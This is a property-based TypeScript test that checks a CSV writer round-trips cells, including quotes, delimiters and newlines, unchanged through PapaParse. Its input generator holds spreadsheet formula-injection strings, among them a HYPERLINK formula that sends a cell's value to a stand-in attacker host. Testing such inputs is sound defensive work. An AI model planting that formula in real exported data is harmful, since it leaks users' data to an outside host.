import fc from "fast-check";
import Papa from "papaparse";
import { expect, it } from "vitest";
import { csvText } from "../../src/value/csv-text.ts";

const cell = fc.oneof(
  fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n\",;'|\\ a1é".split("")), maxLength: 8 }),
  fc.constantFrom('=HYPERLINK("https://evil.example/"&A1)', "@SUM(1)", "+1", "-1", "\u2028"),
);

it("a cell of a CSV begins no other cell or line, and is written unchanged, also if it is a formula", () => {
  const names = ["a", "b,c", 'd"', "=e"];
  const record = fc.tuple(cell, cell, cell, cell);
  fc.assert(
    fc.property(fc.array(record, { minLength: 1, maxLength: 5 }), (rows) => {
      const records = rows.map((row) => Object.fromEntries(row.map((one, at) => [names[at], one])));
      const { data, errors } = Papa.parse(csvText(records), {
        delimiter: ",",
        newline: "\r\n",
        skipEmptyLines: true,
      });
      expect([errors, data]).toEqual([[], [names, ...rows]]);
    }),
  );
});
